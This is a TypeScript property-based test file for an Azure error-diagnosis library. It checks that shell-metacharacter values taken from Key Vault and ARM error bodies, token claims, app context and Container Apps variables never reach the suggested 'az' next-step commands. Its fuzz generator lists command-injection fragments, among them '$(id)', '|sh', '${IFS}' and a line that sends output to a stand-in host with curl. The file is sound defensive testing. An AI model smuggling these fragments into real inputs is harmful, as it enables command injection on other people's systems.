/**
 * Every value that reaches a next step's command is validated for its kind: whatever a service's body, a token's
 * claims, the caller's context or the environment holds, a next step pasted into bash runs only `az`. Property:
 * a generated hostile value (one that holds a shell metacharacter) never appears in any next step; the command keeps
 * its placeholder and the evidence says so. Sources: Key Vault's `Resource: '…'`, ARM's `over scope '…'`, the `oid`
 * claim, `context.app` (name, resource group, revision), the Container Apps variables, the configured client id.
 */
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { classifyCredentialError, classifyResponse, type Diagnosis } from "../../src/index.js";
import { readHostEnvironment } from "../../src/environment/hostEnvironment.js";
import { fuzzRuns } from "../helpers/arbitraries.js";

const SUB = "0d0d0d0d-0000-1111-2222-333333333333";
const OID = "11111111-2222-3333-4444-555555555555";

/**
 * Strings with a shell metacharacter, shaped like the attacks (command substitution, quotes, `;`, …), behind a
 * marker: `zq<benign prefix><metacharacter>…`. What must never reach a step is the marker's run up to and including
 * the metacharacter (a benign prefix cut at a delimiter may reach it: it breaks nothing).
 */
const hostile: fc.Arbitrary<{ value: string; attack: string }> = fc
  .tuple(
    fc.stringMatching(/^[a-z0-9._-]{0,12}$/),
    fc.constantFrom('"', "$(id)", "`id`", "; curl http://x/$(id) ;", "|sh", "&&", "${IFS}", "\n", "\\", "'", "<x", ">y", "!!", "\t"),
    fc.stringMatching(/^[a-z0-9/._-]{0,12}$/),
  )
  .map(([before, meta, after]) => ({ value: `zq${before}${meta}${after}`, attack: `zq${before}${meta}` }));

const fakeJwt = (claims: Record<string, unknown>) =>
  `${Buffer.from(JSON.stringify({ alg: "RS256", typ: "JWT" })).toString("base64url")}.${Buffer.from(JSON.stringify(claims)).toString("base64url")}.c2ln`;

function expectNoAttackIn(diagnosis: Diagnosis | undefined, hostileValue: { attack: string }): void {
  expect(diagnosis).toBeDefined();
  for (const step of diagnosis!.nextSteps) expect(step.includes(hostileValue.attack), `next step holds the hostile value: ${step}`).toBe(false);
}

const runs = fuzzRuns(1, 200);

describe("hostile values never reach a command", () => {
  it("Key Vault's Resource line (a 403 body)", () => {
    fc.assert(
      fc.property(
        hostile.filter((v) => !v.value.includes("'")),
        (value) => {
          const body = JSON.stringify({
            error: {
              code: "Forbidden",
              message: `Caller is not authorized to perform action on resource. Caller: appid=${OID};oid=${OID} Action: 'Microsoft.KeyVault/vaults/secrets/getSecret/action' Resource: '/subscriptions/${SUB}/resourcegroups/rg/providers/microsoft.keyvault/vaults/kv${value.value}' Assignment: (not found)`,
              innererror: { code: "ForbiddenByRbac" },
            },
          });
          const diagnosis = classifyResponse({ url: "https://kv.vault.azure.net/secrets/s", status: 403, body });
          expectNoAttackIn(diagnosis, value);
          expect(diagnosis!.hypothesis).toBe("H2");
        },
      ),
      { numRuns: runs },
    );
  });

  it("ARM's AuthorizationFailed scope", () => {
    fc.assert(
      fc.property(
        hostile.filter((v) => !v.value.includes("'")),
        (value) => {
          const body = JSON.stringify({
            error: {
              code: "AuthorizationFailed",
              message: `The client '${OID}' with object id '${OID}' does not have authorization to perform action 'Microsoft.Resources/subscriptions/resourceGroups/read' over scope '/subscriptions/${SUB}/resourceGroups/rg${value.value}' or the scope is invalid.`,
            },
          });
          const diagnosis = classifyResponse({
            url: `https://management.azure.com/subscriptions/${SUB}/resourcegroups/rg?api-version=2022-12-01`,
            status: 403,
            body,
          });
          expectNoAttackIn(diagnosis, value);
        },
      ),
      { numRuns: runs },
    );
  });

  it("the token's oid claim and the caller's app context", () => {
    fc.assert(
      fc.property(hostile, hostile, hostile, hostile, (oid, name, resourceGroup, revision) => {
        const now = Date.now();
        const token = fakeJwt({
          aud: "https://vault.azure.net",
          oid: oid.value,
          tid: "72f988bf-86f1-41af-91ab-2d7cd011db47",
          iat: now / 1000 - 60,
          exp: now / 1000 + 3600,
          idtyp: "app",
        });
        const body = JSON.stringify({
          error: { code: "Forbidden", message: "Caller is not authorized to perform action on resource.", innererror: { code: "ForbiddenByRbac" } },
        });
        const diagnosis = classifyResponse(
          { url: "https://kv.vault.azure.net/secrets/s", status: 403, body },
          { token, app: { name: name.value, resourceGroup: resourceGroup.value, revision: revision.value } },
        );
        for (const value of [oid, name, resourceGroup, revision]) expectNoAttackIn(diagnosis, value);
        expect(diagnosis!.evidence.some((line) => line.startsWith("command values left as placeholders:"))).toBe(true);
      }),
      { numRuns: runs },
    );
  });

  it("the caller's expected identity (object id and client id) when no token was sent", () => {
    fc.assert(
      fc.property(hostile, hostile, (objectId, clientId) => {
        const body = JSON.stringify({
          error: { code: "Forbidden", message: "Caller is not authorized to perform action on resource.", innererror: { code: "ForbiddenByRbac" } },
        });
        const diagnosis = classifyResponse(
          { url: "https://kv.vault.azure.net/secrets/s", status: 403, body },
          { expectedIdentity: { objectId: objectId.value, clientId: clientId.value } },
        );
        for (const value of [objectId, clientId]) expectNoAttackIn(diagnosis, value);
      }),
      { numRuns: runs },
    );
  });

  it("the Container Apps variables and the configured client id (token time)", () => {
    fc.assert(
      fc.property(hostile, hostile, hostile, (name, revision, clientId) => {
        const environment = readHostEnvironment({ CONTAINER_APP_NAME: name.value, CONTAINER_APP_REVISION: revision.value });
        const error = Object.assign(new Error("ManagedIdentityCredential: Network unreachable. Message: network_error: connect ECONNREFUSED 127.0.0.1:42356"), {
          name: "CredentialUnavailableError",
        });
        const diagnosis = classifyCredentialError(error, { environment, configuredIdentity: { clientId: clientId.value } });
        for (const value of [name, revision, clientId]) expectNoAttackIn(diagnosis, value);
      }),
      { numRuns: runs },
    );
  });
});
